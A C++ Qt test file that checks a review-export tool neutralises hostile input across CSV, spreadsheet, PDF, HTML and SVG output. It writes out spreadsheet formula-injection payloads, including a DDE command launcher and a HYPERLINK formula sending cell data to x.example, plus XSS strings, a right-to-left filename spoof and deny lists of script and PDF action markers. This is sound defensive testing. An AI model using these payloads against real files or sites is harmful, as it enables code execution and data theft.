// SPDX-License-Identifier: GPL-3.0-or-later
#include "integration/connected_store.h"
#include "integration/outside_tools.h"

#include <QJsonArray>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace plaudit;

namespace
{

struct Hostile
{
    const char *title;
    QString words;
    bool isFormula = false; ///< to a spreadsheet
};

/// Words that somebody might wish to run, to hide, or to break something with.
const std::vector<Hostile> &hostileWords()
{
    static const std::vector<Hostile> known{{"DDE", u"=cmd|' /C calc'!A0"_s, true},
        {"HYPERLINK", u"=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")"_s, true}, {"plus", u"+1"_s, true},
        {"minus", u"-1"_s, true}, {"at", u"@SUM(1+1)"_s, true}, {"TAB", u"\t=1+1"_s, true}, {"CR", u"\r=1+1"_s, true},
        {"LF", u"\n=1+1"_s}, {"wide equals sign", u"\uFF1D1+1"_s, true}, {"lines", u"one\r\ntwo\nthree\rfour"_s},
        {"HTML", u"<script>alert(1)</script><img src=x onerror=alert(1)>"_s},
        {"end of a style", u"</style></text></svg>]]><b onload=\"x()\">"_s}, {"entity", u"&lt;b&gt; &amp; &#1;"_s},
        {"emoji", u"😀🏳️‍🌈 ok"_s}, {"RTL override", u"invoice\u202Egnp.exe"_s},
        {"invisible", u"a\u200Bb\u00ADc"_s}, {"NUL", u"before\u0000after"_s}, {"control", u"a\u0001b\u001Bc\u007Fd"_s},
        {"quotes", u"\"quoted\", and; 'more'"_s}, {"separators", u",;\t|"_s}, {"number", u"_x0041_ stays"_s},
        {"long id", u"12345678901234567890"_s}, {"leading zeros", u"000123"_s}, {"blanks", u"  kept  "_s},
        {"PDF", u"(Escape) Tj ET \\ %%EOF"_s}, {"40,000 signs", u"begin "_s + QString(40'000, u'x') + u" end"_s}};
    return known;
}

QString idOf(std::size_t number)
{
    return QUuid::createUuidV5(QUuid(), QStringLiteral("review %1").arg(number + 1)).toString(QUuid::WithoutBraces);
}

std::vector<QJsonObject> hostileReviews()
{
    std::vector<QJsonObject> reviews;
    for (std::size_t i = 0; i < hostileWords().size(); ++i) {
        auto review = contractReview(int(i + 1), QDate(2024, 1, 1).addDays(qint64(i)), 1 + int(i % 5));
        const auto &words = hostileWords()[i].words;
        review[u"title"_s] = words;
        review[u"body"_s] = words;
        review[u"productName"_s] = words.left(500);
        review[u"productId"_s] = u"shopify-%1"_s.arg(i);
        reviews.push_back(review);
    }
    return reviews;
}

/// What a report tells of it: control characters and marks that turn the writing are left out, all else is there.
QString told(const QString &words)
{
    QString told;
    for (const QChar sign : words) {
        const bool isMark = sign.category() == QChar::Other_Format || sign == QChar(0xFE0F);
        if (!sign.isSpace() && sign.category() != QChar::Other_Control && !isMark)
            told += sign;
    }
    return told;
}

} // namespace

/// Hostile words through every format: none would run, none is lost.
class ExportHostileTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void tables_data();
    void tables();
    void workbook();
    void reports_data();
    void reports();
    void charts();

private:
    [[nodiscard]] QString file(const QString &name) const { return m_store->program.folder() + u'/' + name; }
    [[nodiscard]] QHash<QString, QString> wordsById(const QString &name, const QString &key) const
    {
        const auto ids = columnOf(file(name), u"review_id"_s), cells = columnOf(file(name), key);
        QHash<QString, QString> words;
        for (qsizetype i = 0; i < std::min(ids.size(), cells.size()); ++i)
            words.insert(ids[i], cells[i]);
        return words;
    }

    std::unique_ptr<ConnectedStore> m_store;
};

void ExportHostileTest::initTestCase()
{
    if (!isInstalled(u"python3"_s))
        QSKIP("python3 is not installed");
    m_store = std::make_unique<ConnectedStore>(hostileReviews());
    const auto synced = m_store->sync();
    QVERIFY2(synced.exitCode == 0, synced.shown().constData());
}

void ExportHostileTest::tables_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QStringList>("options");
    QTest::newRow("CSV") << u"rows.csv"_s << QStringList();
    QTest::newRow("CSV with a mark") << u"marked.csv"_s << QStringList{u"--bom"_s};
    QTest::newRow("TSV") << u"rows.tsv"_s << QStringList();
    QTest::newRow("JSON Lines") << u"rows.jsonl"_s << QStringList();
}

void ExportHostileTest::tables()
{
    QFETCH(QString, name);
    QFETCH(QStringList, options);
    const auto run = m_store->program.run(QStringList{u"export"_s, u"reviews"_s, u"-o"_s, file(name)} + options);
    QVERIFY2(run.exitCode == 0, run.shown().constData());
    const auto titles = wordsById(name, u"title"_s), bodies = wordsById(name, u"body"_s);
    QCOMPARE(titles.size(), qsizetype(hostileWords().size()));
    for (std::size_t i = 0; i < hostileWords().size(); ++i) {
        const auto &[title, words, isFormula] = hostileWords()[i];
        const bool isNeutralised = isFormula && !name.endsWith(".jsonl"_L1);
        const auto expected = isNeutralised ? u'\'' + words : words;
        QVERIFY2(titles[idOf(i)] == expected, title);
        QVERIFY2(bodies[idOf(i)] == expected, title);
    }
}

void ExportHostileTest::workbook()
{
    const auto name = u"rows.xlsx"_s;
    QVERIFY(m_store->program.run({u"export"_s, u"reviews"_s, u"-o"_s, file(name)}).exitCode == 0);
    // Reading fails where a cell is a formula.
    const auto titles = wordsById(name, u"title"_s), bodies = wordsById(name, u"body"_s);
    QCOMPARE(titles.size(), qsizetype(hostileWords().size()));
    const auto sheets = QJsonDocument::fromJson(runScript(u"read_workbook.py"_s, {file(name)}).output).object();
    QString longTexts;
    for (const auto rows = sheets[u"Long texts"_s].toArray(); const auto &row : rows)
        longTexts += row[3][1].toString();
    for (std::size_t i = 0; i < hostileWords().size(); ++i) {
        const auto &[title, words, isFormula] = hostileWords()[i];
        if (words.size() > 32'000) {
            QVERIFY2(longTexts == words + words, title);
            continue;
        }
        const auto expected = QString(words).replace(QChar(u'\0'), QChar(u'\u2400'));
        QVERIFY2(titles[idOf(i)] == expected, title);
        QVERIFY2(bodies[idOf(i)] == expected, title);
    }
    // What the charts of products are drawn from is text too.
    QVERIFY(m_store->program.run({u"export"_s, u"product-figures"_s, u"-o"_s, file(u"products.xlsx"_s)}).exitCode == 0);
    const auto drawn = runScript(u"read_workbook.py"_s, {file(u"products.xlsx"_s)});
    QVERIFY(drawn.output.contains("Chart data"));
    QVERIFY(!drawn.output.contains("[\"f\""));
}

void ExportHostileTest::reports_data()
{
    QTest::addColumn<QString>("name");
    QTest::newRow("PDF") << u"report.pdf"_s;
    QTest::newRow("HTML") << u"report.html"_s;
}

void ExportHostileTest::reports()
{
    QFETCH(QString, name);
    const bool isPdf = name.endsWith(".pdf"_L1);
    if (isPdf && !(isInstalled(u"pdftotext"_s) && isInstalled(u"qpdf"_s)))
        QSKIP("pdftotext or qpdf is not installed");
    const auto spec = m_store->program.write(u"spec.json"_s, R"({"plaudit_report": 1, "template": "monthly",
        "period": "all_time", "compare": "none", "parts": ["products", "voices", "reviews"], "quotes": 100,
        "title": "=cmd|' /C calc'!A0 <script>alert(1)</script>"})");
    const auto run = m_store->program.run({u"report"_s, u"--json"_s, u"--spec"_s, spec, u"-o"_s, file(name)});
    QVERIFY2(run.exitCode == 0, run.shown().constData());
    const auto bytes = contentOf(file(name));
    const auto words = told(isPdf ? wordsOfPdf(file(name)) : wordsOfHtml(bytes));
    for (const auto &[title, hostile, isFormula] : hostileWords()) {
        // Emoji and wide signs need a font of the system in a PDF.
        const bool needsFont = hostile.contains(u"😀"_s) || hostile.contains(QChar(u'\uFF1D'));
        if (isPdf && hostile.size() > 32'000)
            QVERIFY2(words.count(u'x') >= 2 * 40'000, title); // title and text, over several pages
        else if (!isPdf || !needsFont)
            QVERIFY2(words.contains(told(hostile)), title);
    }
    if (isPdf) {
        QCOMPARE(runTool(u"qpdf"_s, {u"--check"_s, file(name)}).exitCode, 0);
        const auto objects = runTool(u"qpdf"_s, {u"--json"_s, file(name)}).output;
        for (const auto &action : {"/JavaScript", "/URI", "/Launch", "/OpenAction"})
            QVERIFY2(!objects.contains(action), action);
    } else {
        for (const auto &element : {"<script", "<img", "onload=\"", "onerror=\"", "javascript:", "src=\"http"})
            QVERIFY2(!bytes.contains(element), element);
        QCOMPARE(bytes.count("</style>"), 1);
    }
}

void ExportHostileTest::charts()
{
    const auto words = u"<script>alert(1)</script> \" onload=\"x() ]]> =cmd|'!A0 &amp;"_s;
    const auto run = m_store->program.run({u"charts"_s, u"--json"_s, u"--format"_s, u"svg"_s, u"-o"_s,
        file(u"charts"_s), u"--country"_s, words, u"--search"_s, u"<img src=x> scent"_s});
    QVERIFY2(run.exitCode == 0, run.shown().constData());
    const auto files = run.json[u"files"_s].toArray();
    QCOMPARE(files.size(), 11);
    for (const auto &each : files) {
        const auto bytes = contentOf(each.toString());
        for (const auto &element : {"<script", "<img", " onload=\"", "href=\"http", "javascript:"})
            QVERIFY2(!bytes.contains(element), element);
        const auto parsed = runTool(u"python3"_s,
            {u"-c"_s,
                u"import sys; from xml.etree import ElementTree as t; print(''.join(t.parse(sys.argv[1]).getroot().itertext()))"_s,
                each.toString()});
        QVERIFY2(parsed.exitCode == 0, parsed.errors.constData());
        QVERIFY2(
            told(QString::fromUtf8(parsed.output)).contains(u"<script>alert(1)</script>"_s), parsed.output.constData());
    }
}

QTEST_GUILESS_MAIN(ExportHostileTest)
#include "tst_export_hostile.moc"
